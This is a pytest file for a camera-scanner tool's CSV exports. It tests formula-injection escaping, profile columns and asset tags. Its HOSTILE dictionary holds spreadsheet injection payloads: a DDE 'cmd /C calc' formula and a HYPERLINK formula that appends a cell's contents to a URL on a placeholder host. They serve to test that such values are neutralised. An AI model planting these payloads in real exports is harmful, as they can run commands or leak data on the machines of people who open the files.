"""CSV: formula-injection escaping, each profile's documented columns, one row per device."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from output_sample import hikvision_camera, sample_result, with_device

from camscan.models import Evidence
from camscan.output.csv import FORMULA_START, PROFILES, csv_text, escape_cell
from camscan.output.document import build_document

README = Path(__file__).resolve().parents[2] / "docs" / "outputs.md"
HOSTILE = {
    "model": '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "brand": "+cmd|' /C calc'!A0",
    "firmware": "-2+3",
    "serial": "@SUM(1+1)*cmd|' /C calc'!A0",
    "vendor": "\t=1+1",
    "value": "\r=1+1",
}


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _hostile_doc() -> dict:
    from dataclasses import replace

    dev = hikvision_camera()
    dev.ip = "198.18.0.99"
    dev.mac = "44:19:b6:3a:10:99"
    dev.vendor = HOSTILE["vendor"]
    dev.verdict = replace(
        dev.verdict,
        model=HOSTILE["model"],
        brand=HOSTILE["brand"],
        firmware=HOSTILE["firmware"],
        serial=HOSTILE["serial"],
    )
    dev.errors = [HOSTILE["value"]]
    dev.evidence.append(Evidence(dev.ip, "http", "http.title", HOSTILE["value"], 80))
    return build_document(with_device(sample_result(), dev))


@pytest.mark.parametrize("value", [*HOSTILE.values(), "=", "+", "-", "@"])
def test_escape_cell_neutralises_formula_starts(value: str) -> None:
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["DS-2CD2385G1-I", "198.18.0.11", "", " =x", "a=b"])
def test_escape_cell_leaves_plain_text_alone(value: str) -> None:
    assert escape_cell(value) == value


@pytest.mark.parametrize("profile", list(PROFILES))
def test_no_cell_of_any_profile_can_start_a_formula(profile: str) -> None:
    rows = _rows(csv_text(_hostile_doc(), profile))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    # The hostile model is still there, as text.
    assert "'" + HOSTILE["model"] in cells


def test_generic_profile_escapes_each_hostile_field() -> None:
    header, *rows = _rows(csv_text(_hostile_doc(), "generic"))
    row = dict(
        zip(header, next(r for r in rows if r[header.index("ip")] == "198.18.0.99"), strict=True)
    )
    assert row["model"] == "'" + HOSTILE["model"]
    assert row["brand"] == "'" + HOSTILE["brand"]
    assert row["firmware"] == "'" + HOSTILE["firmware"]
    assert row["serial"] == "'" + HOSTILE["serial"]
    assert row["mac_vendor"] == "'" + HOSTILE["vendor"]
    assert row["errors"] == "'" + HOSTILE["value"]


def _documented_columns(profile: str) -> list[str]:
    text = README.read_text(encoding="utf-8")
    section = text.split(f"### `{profile}`", 1)[1].split("\n### ", 1)[0].split("\n## ", 1)[0]
    cols: list[str] = []
    section = section.split("| column | content |", 1)[1]  # the devices table
    for line in section.splitlines():
        if line.startswith("| `"):
            cols += re.findall(r"`([^`]+)`", line.split(" | ")[0])
    return cols


@pytest.mark.parametrize("profile", ["csv", "netbox", "snipeit"])
def test_profile_columns_are_the_documented_ones(profile: str) -> None:
    name = "generic" if profile == "csv" else profile
    header = _rows(csv_text(sample_result(), name))[0]
    assert header == list(PROFILES[name].columns) == _documented_columns(profile)


def test_profile_columns_pinned() -> None:
    assert PROFILES["netbox"].columns == (
        "name",
        "role",
        "manufacturer",
        "device_type",
        "serial",
        "asset_tag",
        "status",
        "site",
        "description",
        "comments",
    )
    assert PROFILES["snipeit"].columns == (
        "Asset Tag",
        "Asset Name",
        "Manufacturer",
        "Model Name",
        "Model Number",
        "Category",
        "Serial Number",
        "Location",
        "Asset Notes",
        "MAC Address",
    )


@pytest.mark.parametrize("profile", list(PROFILES))
def test_one_row_per_device(profile: str) -> None:
    header, *rows = _rows(csv_text(sample_result(), profile))
    assert len(rows) == 6
    assert all(len(r) == len(header) for r in rows)


def test_netbox_rows_fill_every_required_field() -> None:
    header, *rows = _rows(csv_text(sample_result(), "netbox"))
    for r in rows:
        row = dict(zip(header, r, strict=True))
        assert all(row[k] for k in ("role", "manufacturer", "device_type", "status", "site"))
    lorex = dict(zip(header, rows[1], strict=True))
    assert (lorex["name"], lorex["manufacturer"], lorex["device_type"], lorex["role"]) == (
        "Lorex-001F540A3107",
        "Dahua",
        "W461ASC",
        "Camera",
    )
    assert "made by Dahua, sold as Lorex" in lorex["comments"]


def test_asset_tags_are_unique_and_stable() -> None:
    header, *rows = _rows(csv_text(sample_result(), "snipeit"))
    tags = [r[header.index("Asset Tag")] for r in rows]
    assert len(set(tags)) == len(tags)
    assert tags[0] == "CS-4419B63A1001"
    assert tags == [r[0] for r in _rows(csv_text(sample_result(), "snipeit"))[1:]]


def test_unknown_profile_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown CSV profile"):
        csv_text(sample_result(), "excel")


def test_notes_quote_the_strongest_matches_only() -> None:
    from camscan.output.csv import decided_by_text

    verdict = {
        "decided_by": [
            {"fingerprint_id": f"fp{i}", "key": "http.server", "value": "x" * 200} for i in range(5)
        ]
    }
    text = decided_by_text(verdict, 3)
    assert text.startswith("fp0 (http.server=" + "x" * 79 + "…)")
    assert "fp2" in text and "fp3" not in text and text.endswith("; and 2 more")
    assert decided_by_text(verdict).count("fp") == 5
